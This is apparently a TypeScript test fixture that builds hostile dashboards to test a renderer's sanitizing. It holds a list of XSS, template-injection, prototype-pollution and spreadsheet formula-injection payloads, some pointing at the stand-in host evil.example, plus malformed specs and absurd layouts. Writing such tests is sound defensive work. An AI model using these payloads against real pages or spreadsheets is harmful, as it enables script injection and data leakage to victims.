import type { JsonObject } from '../../src/contract/wire.js';
import { hostileSpecs } from '../charts/hostile-specs.js';
import { bypasses } from '../report/html/html-corpus.js';

// Hostile and invalid dashboards, as a platform might send them.

/** Strings that are harmful unless rendered as plain text. */
export const poisons: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script src=https://evil.example/a.js></script><svg onload=alert(1)>',
  '</style></script><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{background:url(https://evil.example/a)}</style>',
  'javascript:alert(1)',
  'java\nscript:alert(1)//https://evil.example',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/a',
  '\\\\evil.example\\a',
  'https://evil.example/a?b=c#d',
  'url(https://evil.example/a.png)',
  'red;background:url(https://evil.example/a)}*{position:fixed',
  '{{constructor.constructor("alert(1)")()}}{{poison0.label}}<%=alert(1)%>',
  "datum.constructor.constructor('alert(1)')()",
  "=cmd|' /C calc'!A0",
  '[x](javascript:alert(1)) ![y](https://evil.example/a.png) <https://evil.example> <b onclick=alert(1)>z</b>',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1}}',
  '\u202e\u0000\u0007\ufeff\ud800 %s %c {0}',
  '9'.repeat(400),
  'W'.repeat(2000),
  '\u0301'.repeat(500),
];

/** Creates an object with any keys. In a literal, `__proto__` would set the prototype. */
function objectOf(...entries: readonly (readonly [string, unknown])[]): JsonObject {
  return Object.fromEntries(entries);
}

/** Returns the view whose cells and titles contain one of `poisons`. */
const viewOf = (poison: number): string => `poison${poison}`;
/** Truncates a string to the maximum length of a widget ID. */
const idOf = (text: string): string => text.slice(0, 100);
const chart = (reportId: number, more: JsonObject = {}): JsonObject => ({
  type: 'CHART',
  config: { reportId, ...more },
});

interface Report extends JsonObject {
  readonly kind?: string;
}

/** Places widgets in rows of four and adds missing IDs. */
function placeWidgets(widgets: readonly JsonObject[]): JsonObject[] {
  return widgets.map((widget, index) => ({
    id: `w${index}`,
    position: { x: (index % 4) * 3, y: Math.floor(index / 4) * 5, w: 3, h: 5 },
    ...widget,
  }));
}

/** Returns a published dashboard with one tile per report, and additional widgets. */
function dashboardOf(
  publicId: string,
  reports: readonly Report[],
  { widgets = [], config = {}, ...more }: { widgets?: readonly JsonObject[]; config?: JsonObject } & JsonObject = {},
): JsonObject {
  const reportSnapshots = reports.map((report, index) => ({
    id: index + 1,
    reportId: index + 1,
    versionNumber: 1,
    name: `Report ${index + 1}`,
    ...report,
  }));
  return {
    allowEmbed: true,
    deploymentId: 1,
    id: 1,
    publicId,
    status: 'published',
    versionId: 1,
    versionNumber: 1,
    workbookId: 1,
    reportSnapshots,
    config: {
      title: publicId,
      widgets: placeWidgets([...reports.map((_, index) => chart(index + 1)), ...widgets]),
      ...config,
    },
    ...more,
  };
}

const theme = (text: string): JsonObject => ({
  backgroundColor: text,
  fontFamily: text,
  primaryColor: text,
  themeId: text,
  [text]: text,
  dashboard: { backgroundColor: text, padding: text },
  widgets: {
    backgroundColor: text,
    padding: text,
    margin: text,
    border: { color: text, radius: text, style: text, width: text },
    title: { color: text, fontFamily: text, fontSize: text, fontWeight: text },
    text: { color: text, secondaryColor: text, fontFamily: text, codeFontFamily: text },
  },
  controls: { backgroundColor: text, padding: text, border: { color: text, radius: text, style: text, width: text } },
});

/** Returns reports of every kind that contain the text in every label and in the rows. */
function reportsOf(text: string, view: string): Report[] {
  const [label, other, figure, time] = [`${view}.label`, `${view}.other`, `${view}.count`, `${view}.at`];
  const jsonQuery = { measures: [figure], dimensions: [label, other] };
  const timed = { measures: [figure], timeDimensions: [{ dimension: time, granularity: 'month', dateRange: text }] };
  const said = { name: text, title: text, description: text, [idOf(text)]: text };
  const report = (kind: string, spec: unknown, more: JsonObject = {}): Report => ({
    ...said,
    kind,
    spec,
    meta: { jsonQuery, publicId: text },
    ...more,
  });
  const look = { title: text, width: text, align: text, overflow: text, display: 'link', url: label, scale: text };
  const formats = [
    { operator: 'contains', value: text, tone: text },
    { operator: text, value: text, tone: 'accent' },
  ];
  return [
    report('table', {
      columns: objectOf([label, { ...look, formats }], [other, { ...look, display: 'image' }], [text, look]),
      order: [text, label, other],
      header: text,
      showTotals: true,
    }),
    report(
      'table',
      { columns: objectOf([label, { display: 'sparkline' }], [figure, { display: text }]) },
      {
        preferences: { columnFormats: objectOf([text, { type: text }], [figure, { type: text }]) },
        sqlQuery: text,
      },
    ),
    report('table', {
      pivotItems: {
        rows: [label],
        columns: [other, text],
        measures: [figure, text],
        filters: [text],
        displayScale: text,
        showRowTotals: true,
        showColumnTotals: true,
      },
    }),
    report('table', text),
    report('kpi', { display: text, measure: text, label: text, comparison: text, target: text, better: text }),
    report('kpi', { display: 'progress', label: text, target: text }),
    report(
      'kpi',
      { display: 'sparkline' },
      {
        meta: { jsonQuery: timed },
        periodComparisons: [
          { measure: figure, timeDimension: time, offset: { amount: 1, unit: text }, outputs: [text] },
        ],
      },
    ),
    report('map', { type: 'us-states', region: label, color: figure, label }),
    report('map', { type: 'points', latitude: label, longitude: other, size: figure, label: text, base: text }),
    report('map', { type: text, region: text }),
    report('sankey', { source: label, target: other, value: figure }),
    report('sankey', { source: text, target: text, value: text, nodes: text }),
    report(
      'html',
      `<a href="{{${label}}}" title="{{${label}}}" style="color:{{${label}}}" class="{{${label}}}">{{${label}}}</a><p data-each-row>{{${other}}} {{${text}}}</p>${text}`,
    ),
    report('vega', {
      data: { name: 'rows' },
      title: { text, subtitle: text },
      description: text,
      mark: { type: 'text', tooltip: true, cursor: text, font: text },
      encoding: {
        text: { field: label.replace('.', '\\.'), type: 'nominal' },
        href: { field: label.replace('.', '\\.'), type: 'nominal' },
        y: { field: other.replace('.', '\\.'), type: 'nominal', axis: { title: text, labelFont: text } },
        color: { field: label.replace('.', '\\.'), legend: { title: text } },
      },
    }),
    report('vega', text),
    report(text, text),
    report('table', null, { meta: { jsonQuery: objectOf(['measures', [text]], ['dimensions', [text]]) } }),
    report('table', null, { meta: { jsonQuery }, fillMissingRows: { member: text, excludedDimensions: [text] } }),
    { ...said, kind: 'table', sqlQuery: text },
  ];
}

function widgetsOf(text: string, view: string): JsonObject[] {
  const [label, other, time] = [`${view}.label`, `${view}.other`, `${view}.at`];
  return [
    { type: 'TEXT', config: { markdown: text } },
    {
      type: 'TEXT',
      config: {
        markdown: `# ${text}\n\n[a](${text}) ![b](${text} "${text}")\n\n\`\`\`${text}\n${text}\n\`\`\`\n\n|a|\n|-|\n|${text}|`,
      },
    },
    { type: text, config: objectOf([text, text], ['title', text]) },
    {
      type: 'CONTAINER',
      id: 'tabs',
      config: {
        layout: 'tabs',
        title: text,
        value: text,
        children: [
          { id: idOf(text), title: text },
          { id: 'inner', title: text },
        ],
      },
    },
    {
      type: 'CONTAINER',
      id: 'stack',
      config: { layout: text, title: text, direction: text, cols: 3, children: ['w1', text, 'stack'] },
    },
    {
      type: 'TEXT',
      id: idOf(text),
      config: { markdown: text, [text]: text },
      style: objectOf([text, text], ['background', text]),
    },
    {
      type: 'CHART',
      id: 'inner',
      config: { reportId: 5, title: text, hideTitle: text, controls: objectOf([text, text]), crossFilter: text },
    },
    {
      type: 'FILTER',
      id: 'f',
      config: { member: label, title: text, value: text, values: [text, 'a'], userAttribute: text },
    },
    {
      type: 'FILTER',
      id: 'g',
      config: { member: other, title: text, operator: text, value: [text], operators: [text] },
    },
    { type: 'FILTER', config: { member: text, title: text } },
    { type: 'TIME_GRAIN', id: 't', config: { member: time, title: text, granularities: [text, 'day'], value: text } },
    {
      type: 'FIELD',
      id: 'm',
      config: { member: other, title: text, members: [text, { member: label, title: text }], value: text },
    },
    {
      type: 'PARENT',
      id: 'p',
      config: {
        title: text,
        value: text,
        options: [{ id: text, title: text, controls: objectOf(['f', { value: text }], [text, text], ['t', text]) }],
      },
    },
  ];
}

/** Returns a dashboard whose titles, labels and text widgets all contain one of `poisons`. */
export function poisonedDashboard(publicId: string, poison: number): JsonObject {
  const text = poisons[poison] ?? '';
  const view = viewOf(poison);
  return dashboardOf(publicId, reportsOf(text, view), {
    title: text,
    description: text,
    userAttributes: objectOf([text, text]),
    widgets: widgetsOf(text, view),
    config: {
      title: text,
      description: text,
      theme: theme(text),
      settings: objectOf(['timezone', text], ['crossFilter', text], [text, text]),
    },
  });
}

const flights = { measures: ['flights.count'], dimensions: ['flights.carrier'] };

/** Returns a dashboard with a tile for each hostile specification. */
export function chartsDashboard(publicId: string): JsonObject {
  return dashboardOf(
    publicId,
    hostileSpecs.map(({ name, spec }) => ({ name, kind: 'vega', spec, meta: { jsonQuery: flights } })),
  );
}

/** Excludes markup with embedded images, which the page’s policy allows or blocks. */
const hasNoEmbeddedImage = (markup: string): boolean => !/src="?data:image\/png/.test(markup);

/** Returns a dashboard with a tile for each known sanitizer bypass, as HTML and as Markdown. */
export function markupDashboard(publicId: string): JsonObject {
  const pieces = bypasses.filter(hasNoEmbeddedImage);
  const orders = { measures: ['orders.status'], dimensions: ['orders.link', 'orders.css'] };
  return dashboardOf(
    publicId,
    pieces.map(spec => ({ kind: 'html', spec, meta: { jsonQuery: orders } })),
    { widgets: pieces.map(markdown => ({ type: 'TEXT', config: { markdown } })) },
  );
}

const nonsense: readonly unknown[] = [
  null,
  '',
  '{',
  '[]',
  '{"a":',
  {},
  { pivotItems: 7 },
  { pivotItems: { rows: 'x', columns: [[]], measures: { length: 1e9 } } },
  { columns: [1, 2], order: 'abc', showTotals: 'yes' },
  { columns: objectOf(['__proto__', { width: -1e9 }], ['flights.count', { width: '1e400fr', formats: [null, 7] }]) },
  { display: 'progress', target: '__proto__', measure: 'constructor' },
  { display: 'sparkline', measure: 7, label: {} },
  { type: 'points', latitude: 'flights.count', longitude: 'flights.count', size: 'nowhere' },
  { type: 'countries', region: '__proto__', color: 'toString' },
  { source: 'flights.carrier', target: 'flights.carrier', value: 'flights.count', nodes: 'shared' },
  { source: 'constructor', target: '__proto__' },
  { html: 7 },
  `<p>${'{{flights.count}}'.repeat(20_000)}</p>`,
  'x'.repeat(400_000),
];

/** Returns a dashboard with every kind of report and every invalid specification. */
export function nonsenseDashboard(publicId: string): JsonObject {
  const kinds = ['table', 'kpi', 'map', 'sankey', 'html', 'vega', 'hologram', 'toString'];
  return dashboardOf(
    publicId,
    kinds.flatMap(kind =>
      nonsense.map(spec => ({ kind, meta: { jsonQuery: flights }, ...(spec !== null && { spec }) })),
    ),
  );
}

/** Invalid responses by view, sent as `data` and `annotation`. */
export const misfits: Readonly<Record<string, JsonObject | string>> = {
  nothing: '',
  page: '<!doctype html><title>502</title><script>alert(1)</script>',
  half: '{"data":[{"half.count":',
  list: '[]',
  wait: '{"error":"<img src=x onerror=alert(1)>"}',
  nodata: { annotation: { measures: {}, dimensions: {}, segments: {}, timeDimensions: {} }, query: {} },
  noannotation: { data: [], query: {} },
  texts: { data: ['a', 'b'] },
  objects: { data: [{ 'objects.count': { toString: 'x' }, 'objects.label': ['<img>'] }] },
  others: { data: [{ 'other.one': 1 }, {}, { __proto__x: 1 }] },
  words: { data: [{ 'words.count': 'many', 'words.label': 7, 'words.at.month': 'javascript:alert(1)' }] },
  bounds: {
    data: [
      { 'bounds.count': '1e400', 'bounds.label': null, 'bounds.at.month': '+275761-01-01' },
      { 'bounds.count': '-0', 'bounds.label': '', 'bounds.at.month': '0000-00-00' },
    ],
  },
  mixed: {
    data: [
      { 'mixed.count': true, 'mixed.label': 1e21 },
      { 'mixed.count': null, 'mixed.label': false },
      { 'mixed.count': '12' },
    ],
  },
};

/** Returns a dashboard with every kind of report over rows that do not fit it. */
export function misfitDashboard(publicId: string): JsonObject {
  return dashboardOf(
    publicId,
    Object.keys(misfits).flatMap(view => {
      const [label, figure] = [`${view}.label`, `${view}.count`];
      const meta = {
        jsonQuery: {
          measures: [figure],
          dimensions: [label],
          timeDimensions: [{ dimension: `${view}.at`, granularity: 'month' }],
        },
      };
      return [
        { kind: 'table', meta },
        {
          kind: 'table',
          spec: { pivotItems: { rows: [label], columns: [`${view}.at.month`], measures: [figure], filters: [] } },
          meta,
        },
        { kind: 'kpi', spec: { display: 'comparison', comparison: label }, meta },
        { kind: 'map', spec: { type: 'points', latitude: figure, longitude: label }, meta },
        { kind: 'map', spec: { type: 'countries' }, meta },
        { kind: 'sankey', spec: { target: `${view}.at.month` }, meta },
        { kind: 'html', spec: `<p data-each-row>{{${label}}} {{${figure}}}</p>`, meta },
        {
          kind: 'vega',
          spec: {
            mark: 'line',
            data: { name: 'rows' },
            encoding: {
              x: { field: `${view}\\.at\\.month`, type: 'temporal' },
              y: { field: `${view}\\.count`, type: 'quantitative' },
            },
          },
          meta,
        },
      ] as Report[];
    }),
  );
}

/** Returns a dashboard with many tiles of three kinds. */
export function crowdedDashboard(publicId: string, tileCount: number): JsonObject {
  const kinds: readonly Report[] = [
    { kind: 'kpi' },
    { kind: 'table' },
    {
      kind: 'vega',
      spec: {
        mark: 'bar',
        data: { name: 'rows' },
        encoding: {
          x: { field: 'flights\\.carrier', type: 'nominal' },
          y: { field: 'flights\\.count', type: 'quantitative' },
        },
      },
    },
  ];
  return dashboardOf(
    publicId,
    Array.from({ length: tileCount }, (_, index) => ({
      ...kinds[index % 10 === 0 ? 2 : index % 2],
      meta: { jsonQuery: { ...flights, limit: index + 1 } },
    })),
  );
}

const places: readonly unknown[] = [
  { x: 0, y: 0, w: 12, h: 4 },
  { x: 0, y: 0, w: 12, h: 4 },
  { x: 3, y: 1, w: 1, h: 1 },
  { x: -5, y: -5, w: 3, h: 3 },
  { x: 1e9, y: 1e9, w: 1e9, h: 1e9 },
  { x: 0, y: 0, w: 0, h: 0 },
  { x: 0, y: 0, w: -3, h: -3 },
  { x: 9_007_199_254_740_991, y: 9_007_199_254_740_991, w: 3, h: 3 },
  { x: 0, y: 9_007_199_254_740_991, w: 9_007_199_254_740_991, h: 9_007_199_254_740_991 },
  { x: 0.5, y: 0.25, w: 2.5, h: 3.1 },
  { x: '0', y: null, w: 'all', h: [] },
  { x: 1e308, y: -1e308, w: 3, h: 3 },
  {},
  null,
  'top',
];

/** Widgets with absurd positions, duplicate IDs, circular containers, and invalid widgets. */
export function absurdDashboard(publicId: string): JsonObject {
  const text = { type: 'TEXT', config: { markdown: 'Words' } };
  return dashboardOf(publicId, [{ kind: 'kpi', meta: { jsonQuery: flights } }], {
    widgets: [
      ...places.map((position, index) => ({ ...text, id: `place${index}`, position })),
      ...places.map((lg, index) => ({ ...text, id: `own${index}`, responsiveLayouts: { lg, md: lg, xxs: lg } })),
      ...['same', 'same', 'same', '__proto__', 'constructor', ''].map(id => ({ ...text, id })),
      { ...text, id: 'i'.repeat(5000) },
      { type: 'HOLOGRAM', id: 'unknown' },
      { type: '__proto__', id: 'proto' },
      { type: 7, id: 'number' },
      { id: 'untyped' },
      { type: 'TEXT', id: 7 },
      { type: 'TEXT', id: 'bare' },
      { type: 'TEXT', id: 'list', config: [] },
      { type: 'TEXT', id: 'seven', config: { markdown: 7 } },
      { type: 'CHART', id: 'nowhere', config: { reportId: 404 } },
      { type: 'CHART', id: 'words', config: { reportId: '__proto__', title: {}, controls: 7 } },
      { type: 'CHART', id: 'noconfig' },
      { type: 'FILTER', id: 'nofilter', config: { member: 7, values: 7, operators: {}, title: [] } },
      { type: 'PARENT', id: 'noparent', config: { options: [null, 7, { id: {} }] } },
      { type: 'FIELD', id: 'nofield', config: { member: 'a.b', members: 'all' } },
      { type: 'CONTAINER', id: 'round', config: { children: ['about', 'round'] } },
      { type: 'CONTAINER', id: 'about', config: { children: ['round', 'place1', 'place1'] } },
      {
        type: 'CONTAINER',
        id: 'odd',
        config: { layout: 'grid', cols: -7, children: [null, 7, {}, { id: {} }, 'place2'] },
      },
      {
        type: 'CONTAINER',
        id: 'many',
        config: { layout: 'tabs', children: Array.from({ length: 3000 }, (_, index) => `n${index}`) },
      },
      { type: 'CONTAINER', id: 'none', config: { children: 'all' } },
      null as unknown as JsonObject,
      7 as unknown as JsonObject,
    ],
    config: {
      layout: {
        breakpoints: { lg: 1e9, md: -5, sm: 0, xs: 0, xxs: 0 },
        cols: { lg: 1e9, md: 0, sm: -1, xs: 1e9, xxs: 0 },
        rowHeight: 1e9,
        margin: [1e9, -1e9, 5],
        containerPadding: [],
      },
    },
  });
}
